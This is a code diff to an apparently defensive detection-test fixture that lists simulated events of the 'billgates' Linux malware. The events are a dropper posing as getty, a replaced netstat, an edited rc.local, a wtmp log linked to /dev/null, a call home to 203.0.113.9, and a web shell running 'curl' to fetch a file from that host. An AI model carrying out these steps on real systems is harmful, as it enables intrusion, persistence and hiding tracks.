@@ -78,7 +78,11 @@ STEPS = (
     Step("billgates", "a false getty is put in place", (_file("file.create", "/usr/bin/bsd-port/getty", _DROPPER),)),
     Step("billgates", "a system tool is replaced", (_file("file.modify", "/bin/netstat", "/usr/bin/cp"),)),
     Step("billgates", "rc.local is edited", (_file("file.modify", "/etc/rc.local", "/bin/bash"),)),
-    Step("billgates", "a log becomes a link to nothing", (_file("file.create", "/var/log/wtmp", _DROPPER, **{"file.target_path": "/dev/null"}),)),
+    Step(
+        "billgates",
+        "a log becomes a link to nothing",
+        (_file("file.create", "/var/log/wtmp", _DROPPER, **{"file.target_path": "/dev/null", "file.type": "symlink"}),),
+    ),
     Step("billgates", "the false getty calls home", (_connect("/usr/bin/bsd-port/getty", "203.0.113.9", 36000),)),
     Step("billgates", "a web page runs a shell", (_exec("/bin/sh", "-c", "id", parent="/usr/sbin/apache2", **_WEB),)),
     Step("billgates", "the web shell fetches a file", (_exec("/usr/bin/curl", "-s", "http://203.0.113.9/x", parent="/bin/sh", **_WEB),)),
